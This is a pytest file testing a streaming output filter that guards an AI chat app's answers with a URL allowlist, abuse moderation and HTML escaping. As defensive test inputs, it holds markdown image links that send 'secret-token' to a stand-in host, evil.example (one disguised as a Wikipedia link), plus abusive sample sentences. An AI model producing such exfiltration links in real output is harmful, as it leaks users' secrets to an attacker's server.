import random

import pytest
import yaml

from tests.support.paths import (
    RAILS_DIR,
    TEST_DATA,
)
from webapp.guard.checkpacer import CheckPacer
from webapp.guard.outputfilter import CHANNELS, FilterStep, OutputFilter
from webapp.guard.rails import Guard
from webapp.guard.rendered import rendered_urls
from webapp.guard.urlpolicy import UrlPolicy
from webapp.guard.verdicts import RailOutcome

ALLOWLIST = ["en.wikipedia.org", "*.example.com", "github.com", "docs.python.org"]
CASES = yaml.safe_load((TEST_DATA / "output_cases.yaml").read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def guard() -> Guard:
    return Guard.from_dir(RAILS_DIR, url_allowlist=ALLOWLIST)


def random_deltas(text: str, rng: random.Random) -> list[str]:
    deltas, i = [], 0
    while i < len(text):
        step = rng.randint(1, 9)
        deltas.append(text[i : i + step])
        i += step
    return deltas


async def stream(guard: Guard, case: dict, rng: random.Random | None) -> tuple[dict, FilterStep | None, list]:
    """Feed a case (reasoning first, as models think before answering); return released text and block."""
    flt = guard.output_filter()
    shown = {c: "" for c in CHANNELS}
    events = []
    feeds = []
    for channel in ("reasoning", "answer"):
        text = case.get(channel, "") or ""
        parts = random_deltas(text, rng) if rng else ([text] if text else [])
        feeds.extend((channel, p) for p in parts)
    for channel, part in feeds:
        step = await flt.feed(channel, part)
        events.extend(step.events)
        for ch, text in step.released.items():
            shown[ch] += text
        if step.block:
            return shown, step, events
    step = await flt.flush()
    events.extend(step.events)
    for ch, text in step.released.items():
        shown[ch] += text
    return shown, (step if step.block else None), events


def test_corpus_is_big_enough():
    assert len(CASES) >= 30


@pytest.mark.parametrize("seed", [None, 1, 2, 3])
@pytest.mark.parametrize("case", CASES, ids=[f"{i}-{c['why']}" for i, c in enumerate(CASES)])
async def test_output_corpus(guard, case, seed):
    rng = random.Random(seed) if seed is not None else None
    shown, blocked, events = await stream(guard, case, rng)
    for text in shown.values():
        assert guard.url_policy.first_violation(rendered_urls(text)) is None, shown
    if case["expect"] == "allow":
        assert blocked is None, blocked
        assert shown["answer"] == case.get("answer", "")
        assert shown["reasoning"] == (case.get("reasoning") or "")
        assert all(e.stage == "output" and not e.blocked for e in events)
    else:
        assert blocked is not None and blocked.block is not None
        assert blocked.block.rail == case["rail"]
        assert blocked.block.stage == "output"
        assert blocked.block in events


async def test_link_split_across_deltas_is_never_released(guard):
    flt = guard.output_filter()
    shown = ""
    for delta in [
        "Here: ",
        "![](https://en.wiki",
        "pedia.org",
        "@evil.example/?q=se",
        "cret) and more text. ",
    ]:
        step = await flt.feed("answer", delta)
        shown += step.released.get("answer", "")
        if step.block:
            break
    else:
        step = await flt.flush()  # checks may wait for the next delta: the end of the stream judges the rest
    assert step.block is not None and "evil.example" in step.block.reason
    assert "evil" not in shown


async def test_nothing_is_released_after_a_block(guard):
    flt = guard.output_filter()
    first = await flt.feed("answer", "Look ![](https://evil.example/x) now. ")
    assert first.block is not None and first.released == {}
    later = await flt.feed("answer", "Harmless sentence. ")
    assert later.released == {} and later.block == first.block
    final = await flt.flush()
    assert final.released == {} and final.block == first.block


class Spy:
    """Moderation that records every text it judged (and blocks the words in ``bad``)."""

    def __init__(self, bad: tuple[str, ...] = ()) -> None:
        self.judged: list[str] = []
        self.bad = bad

    def __call__(self, text: str) -> RailOutcome:
        self.judged.append(text)
        hit = any(word in text for word in self.bad)
        return RailOutcome("output", "moderation", "block" if hit else "allow", "abuse" if hit else "ok", 0.0)


def spied_filter(bad: tuple[str, ...] = (), hold_limit: int = 1000) -> tuple[OutputFilter, Spy]:
    spy = Spy(bad)
    return OutputFilter(url_policy=UrlPolicy(ALLOWLIST), moderate=spy, hold_limit=hold_limit), spy


async def feed_all(flt: OutputFilter, deltas: list[str]) -> tuple[list[str], FilterStep | None]:
    pieces: list[str] = []
    for delta in deltas:
        step = await flt.feed("answer", delta)
        pieces += [step.released["answer"]] if "answer" in step.released else []
        if step.block:
            return pieces, step
    step = await flt.flush()
    pieces += [step.released["answer"]] if "answer" in step.released else []
    return pieces, step if step.block else None


async def test_the_first_word_is_shown_as_soon_as_it_is_complete():
    flt, _ = spied_filter()
    assert (await flt.feed("answer", "Hel")).released == {}
    assert (await flt.feed("answer", "lo th")).released == {"answer": "Hello "}


async def test_a_link_split_across_many_tiny_chunks_is_never_shown_unchecked():
    text = "Sure. Here: ![chart](https://en.wikipedia.org@evil.example/?q=secret-token) and more words. "
    for size in (1, 2, 3):
        flt, spy = spied_filter()
        pieces, block = await feed_all(flt, [text[i : i + size] for i in range(0, len(text), size)])
        assert block is not None and block.block is not None and block.block.rail == "url_allowlist"
        shown = "".join(pieces)
        assert shown == "Sure. Here: "  # everything before the image, and nothing of it
        assert all(any(j.endswith(p) for j in spy.judged) for p in pieces if p.strip())


async def test_an_allowed_link_split_into_tiny_chunks_is_shown_whole_once_complete():
    text = "See [the docs](https://docs.python.org/3/library/asyncio.html) now, please. "
    flt, spy = spied_filter()
    pieces, block = await feed_all(flt, list(text))
    assert block is None and "".join(pieces) == text
    link_piece = next(p for p in pieces if "](" in p)
    assert link_piece.startswith("[the docs](https://docs.python.org/3/library/asyncio.html)")
    assert all("docs.python" not in p for p in pieces if p is not link_piece)  # never shown half-built


async def test_a_sentence_of_abuse_streamed_word_by_word_is_blocked_before_its_abusive_word_shows():
    text = "Happy to help. You are a worthless idiot and everyone knows it. Bye."
    flt, spy = spied_filter(bad=("idiot",))
    words = [w + " " for w in text.split(" ")]
    pieces, block = await feed_all(flt, words)
    assert block is not None and block.block is not None and block.block.rail == "moderation"
    shown = "".join(pieces)
    assert "idiot" not in shown and shown.startswith("Happy to help. ")
    assert all(any(j.endswith(p) for j in spy.judged) for p in pieces)  # each word shown was judged
    assert any(j.startswith("Happy to help.") for j in spy.judged[1:])  # with its sentence context


async def test_the_real_moderation_blocks_abuse_streamed_word_by_word(guard):
    text = "Let me answer. You are stupid and worthless, you idiot. Anything else?"
    flt = guard.output_filter()
    shown, block = "", None
    for word in text.split(" "):
        step = await flt.feed("answer", word + " ")
        shown += step.released.get("answer", "")
        if step.block:
            block = step.block
            break
    else:
        block = (await flt.flush()).block
    assert block is not None and block.rail == "moderation"
    assert "idiot" not in shown and "worthless" not in shown


async def test_a_flagged_start_of_a_sentence_waits_for_the_sentence_to_end():
    # "hell" alone looks bad to a bag-of-words classifier; the whole sentence decides
    spy_words = ("hell,",)
    flt, spy = spied_filter(bad=spy_words)
    first = await flt.feed("answer", "What the hell, ")
    assert first.released == {}  # flagged: waits for the end of the sentence
    spy.bad = ()  # the rest of the sentence makes it fine
    later = await flt.feed("answer", "that bug again? Fix")
    assert later.block is None and later.released["answer"].endswith("that bug again? ")


async def test_an_unclosed_tag_is_held_then_released_escaped_past_the_hold_limit():
    flt, _ = spied_filter(hold_limit=50)
    step = await flt.feed("answer", "Look <img src" + " " * 60)
    assert step.released == {"answer": "Look &lt;img src" + " " * 60}
    later = await flt.feed("answer", '="//attr-split.evil.shop/x.png"> ')
    assert later.block is not None  # the rest is judged too, even though it can no longer render


async def test_an_unclosed_construct_at_the_end_is_released_escaped():
    flt, _ = spied_filter()
    await flt.feed("answer", "Intro. [see the table ")
    await flt.feed("answer", "<b class=x ")
    final = await flt.flush()
    assert final.block is None
    assert final.released == {"answer": "\\[see the table &lt;b class=x "}


async def test_code_is_shown_as_written():
    code = "```c\nfor (i=0; i<n; i++) { a[i] = b[i]; }\n```\n"
    flt, _ = spied_filter()
    pieces, block = await feed_all(flt, list(code))
    assert block is None and "".join(pieces) == code


async def test_after_the_first_words_checks_are_spaced_by_the_minimum_interval():
    now = [0.0]
    spy = Spy()
    flt = OutputFilter(url_policy=None, moderate=spy, min_check_interval_s=0.025, clock=lambda: now[0])
    assert (await flt.feed("answer", "First ")).released == {"answer": "First "}  # at once
    now[0] += 0.010
    assert (await flt.feed("answer", "second ")).released == {}  # 10 ms after the last check: waits
    now[0] += 0.020
    assert (await flt.feed("answer", "third ")).released == {"answer": "second third "}  # judged together
    assert spy.judged == ["First ", "First second third "]
    assert (await flt.flush()).released == {}


async def test_words_checked_together_are_judged_sentence_by_sentence():
    # Under load a check takes several words: a sentence that ends among them is judged as it ends, without
    # the next sentence's first words ('"X are rats," he said. That is vile' read unfinished as condemning).
    now = [0.0]
    spy = Spy(bad=("rats",))
    flt = OutputFilter(url_policy=None, moderate=spy, min_check_interval_s=0.1, clock=lambda: now[0])
    await flt.feed("answer", "First ")
    now[0] += 0.05
    await flt.feed("answer", "they said. That is ")
    now[0] += 0.1
    step = await flt.feed("answer", "vile. Then rats. ")
    assert step.released == {"answer": "they said. That is vile. "}  # what passed before the block is shown
    assert step.block is not None and step.block.reason == "abuse"
    assert spy.judged == [
        "First ",
        "First they said. ",
        "First they said. That is vile. ",
        "First they said. That is vile. Then rats. ",
    ]


async def test_the_shipped_interval_checks_a_fast_stream_about_ten_times_a_second(guard):
    # A check costs about the same (~1 ms of CPU) for one new word as for five: a model writing a word every
    # 20 ms is checked every fifth word, not every third (the UI repaints every 100 ms anyway).
    now = [0.0]
    spy = Spy()
    flt = OutputFilter(
        url_policy=None,
        moderate=spy,
        min_check_interval_s=guard.settings.min_check_ms / 1000,
        clock=lambda: now[0],
    )
    for i in range(64):
        now[0] += 0.020
        await flt.feed("answer", f"word{i} ")
    await flt.flush()
    assert 10 <= len(spy.judged) <= 14  # 1.28 s of words: the first at once, then one check per 100 ms


async def test_many_streams_at_once_space_their_checks_further_and_first_words_still_go_at_once():
    now = [0.0]
    pacer = CheckPacer(checks_per_s=20)  # three answers at once: each checked at most every 150 ms

    def paced() -> tuple[OutputFilter, Spy]:
        spy = Spy()
        flt = OutputFilter(
            url_policy=None, moderate=spy, min_check_interval_s=0.1, clock=lambda: now[0], pacer=pacer
        )
        return flt, spy

    (flt, spy), others = paced(), [paced()[0] for _ in range(2)]
    assert (await flt.feed("answer", "First ")).released == {"answer": "First "}  # at once, however busy
    now[0] += 0.120
    assert (await flt.feed("answer", "second ")).released == {}  # past 100 ms, not yet 150
    now[0] += 0.040
    assert (await flt.feed("answer", "third ")).released == {"answer": "second third "}
    for other in others:
        await other.flush()  # ended answers no longer count
    now[0] += 0.110
    assert (await flt.feed("answer", "fourth ")).released == {"answer": "fourth "}  # 100 ms again
    assert spy.judged == ["First ", "First second third ", "First second third fourth "]


def test_a_filter_that_checks_every_word_is_not_paced_and_a_dropped_filter_stops_counting():
    pacer = CheckPacer(checks_per_s=1)
    flt: OutputFilter | None = OutputFilter(url_policy=None, moderate=Spy(), pacer=pacer)
    assert pacer.interval_s(0.0) == 0.0  # bench.moderation_eval's setting: every word, however many streams
    assert pacer.interval_s(0.1) == 1.0  # one answer in flight at one check a second
    flt = None  # a turn cancelled before its flush: nobody holds its filter any more
    assert flt is None and pacer.interval_s(0.1) == 0.1


@pytest.mark.parametrize("run", ["[", "<a ", "<!--", "[a](", '<a title="'])
async def test_a_flood_of_unclosed_constructs_is_escaped_in_one_pass(run):
    flt, _ = spied_filter(hold_limit=50)
    flood = run * (6000 // len(run))
    step = await flt.feed("answer", flood + " tail ")
    final = await flt.flush()
    shown = step.released.get("answer", "") + final.released.get("answer", "")
    assert final.block is None and "<" not in shown.replace("&lt;", "")
    assert "tail" in shown


async def test_the_last_piece_of_a_stream_gets_the_full_check():
    # while a sentence streams only the cheap tiers judge it; its end (here: the stream's) gets every tier
    streaming, at_end = Spy(), Spy(bad=("vanish",))
    flt = OutputFilter(url_policy=None, moderate=streaming, moderate_end=at_end)
    assert (await flt.feed("answer", "You should ")).released == {"answer": "You should "}
    assert (await flt.feed("answer", "vanish")).released == {}  # unfinished word: waits
    final = await flt.flush()
    assert final.block is not None and final.released == {}
    assert streaming.judged == ["You should "] and at_end.judged == ["You should vanish"]


class QuoteSpy:
    """Moderation that blocks a quote of "vermin" unless a sentence in the text condemns it ("wrong")."""

    def __init__(self) -> None:
        self.judged: list[str] = []

    def __call__(self, text: str) -> RailOutcome:
        self.judged.append(text)
        hit = "vermin" in text and "wrong" not in text
        return RailOutcome("output", "moderation", "block" if hit else "allow", "abuse" if hit else "ok", 0.0)


def quote_filter(reported: bool = True) -> OutputFilter:
    spy = QuoteSpy()
    return OutputFilter(url_policy=None, moderate=spy, may_be_reported=lambda text: reported and '"' in text)


def words(text: str) -> list[str]:
    return [w + " " for w in text.split(" ")]


async def test_a_blocked_quote_waits_for_the_next_sentence_that_condemns_it():
    flt = quote_filter()
    pieces, block = await feed_all(flt, words('"X are vermin." That is wrong. Next.'))
    assert block is None
    assert "".join(pieces).startswith('"X are vermin." That is wrong. ')
    assert not any(p.startswith('"X are vermin."') and "wrong" not in p for p in pieces)


async def test_a_waiting_quote_the_next_sentence_does_not_condemn_is_blocked_unseen():
    flt = quote_filter()
    pieces, block = await feed_all(flt, words('"X are vermin." Honestly, they are. More text.'))
    assert block is not None
    assert not any("vermin" in p for p in pieces)


async def test_a_waiting_quote_is_blocked_at_the_hold_limit_or_the_end_of_the_stream():
    flt = quote_filter()
    pieces, block = await feed_all(flt, words('"X are vermin." and ' + "on " * 200))
    assert block is not None and not any("vermin" in p for p in pieces)
    flt = quote_filter()
    pieces, block = await feed_all(flt, words('"X are vermin." And'))  # feed_all ends with flush()
    assert block is not None and not any("vermin" in p for p in pieces)


async def test_a_blocked_sentence_that_reports_nothing_blocks_at_once():
    flt = quote_filter(reported=False)
    pieces, block = await feed_all(flt, words('"X are vermin." That is wrong.'))
    assert block is not None and not any("vermin" in p for p in pieces)
